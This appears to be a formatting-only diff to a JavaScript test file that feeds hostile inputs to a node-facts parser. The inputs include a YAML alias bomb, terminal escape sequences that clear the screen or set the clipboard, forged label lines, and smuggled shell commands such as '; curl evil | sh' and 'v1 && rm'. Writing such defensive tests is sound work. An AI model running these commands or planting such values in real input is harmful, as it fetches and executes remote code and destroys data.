@@ -35,7 +35,8 @@ const laughs = [
   'a: &a [x, x]',
   ...Array.from(
     'bcdefghijklmnopqrst',
-    (name, index) => `${name}: &${name} [${'*'}${'abcdefghijklmnopqrst'[index]}, ${'*'}${'abcdefghijklmnopqrst'[index]}]`,
+    (name, index) =>
+      `${name}: &${name} [${'*'}${'abcdefghijklmnopqrst'[index]}, ${'*'}${'abcdefghijklmnopqrst'[index]}]`,
   ),
   'node-name: [*t, *t]',
 ].join('\n')
@@ -50,7 +51,11 @@ test.each([
     section: 'foreign',
     text: 'unit\tx\u001b[2J.service\tactive\tenabled\t/x\tk3s server\t\t\n',
   },
-  { name: 'a file beside keel whose path is a command', section: 'foreign', text: 'config\t; curl evil | sh\ttext\t\n' },
+  {
+    name: 'a file beside keel whose path is a command',
+    section: 'foreign',
+    text: 'config\t; curl evil | sh\ttext\t\n',
+  },
   { name: 'an endless path', section: 'generation', text: `owned\t/${'x'.repeat(100_000)}\n` },
   { name: 'a label without a name', section: 'node-marks', text: node({ metadata: { labels: { '': 'x' } } }) },
   {
@@ -58,7 +63,11 @@ test.each([
     section: 'node-marks',
     text: node({ metadata: { labels: { 'x\u001b]0;T\u0007': 'x' } } }),
   },
-  { name: 'a label of two lines', section: 'node-marks', text: node({ metadata: { labels: { a: 'b\nkeel: forged' } } }) },
+  {
+    name: 'a label of two lines',
+    section: 'node-marks',
+    text: node({ metadata: { labels: { a: 'b\nkeel: forged' } } }),
+  },
   {
     name: 'a taint that is none',
     section: 'node-marks',
@@ -67,7 +76,9 @@ test.each([
   {
     name: 'a key that was never a label, as owned',
     section: 'node-marks',
-    text: node({ metadata: { annotations: { 'keel.internal/node-marks': '{"labels":["x\\u001b]0;T\\u0007"],"taints":[]}' } } }),
+    text: node({
+      metadata: { annotations: { 'keel.internal/node-marks': '{"labels":["x\\u001b]0;T\\u0007"],"taints":[]}' } },
+    }),
   },
   { name: 'a drop-in that sets the clipboard', section: 'drop-ins', text: '/etc/\u001b]52;c;AAAA\u0007.conf\n' },
   { name: 'a version that is none', section: 'past', text: 'version\tv1 && rm\n' },
@@ -103,7 +114,8 @@ test.each(['\n', 'a', '{"a":', 'missing=x\n', '\u0001probe x\n'])(
   'attack 6: as much of %j as fits is read or refused in seconds',
   (piece) => {
     const took = processorMs(() => {
-      for (const section of Object.keys(honestSections)) read(factsAnswer({ [section]: piece.repeat(1_000_000 / piece.length) }))
+      for (const section of Object.keys(honestSections))
+        read(factsAnswer({ [section]: piece.repeat(1_000_000 / piece.length) }))
     })
     expect(took).toBeLessThan(20_000)
   },
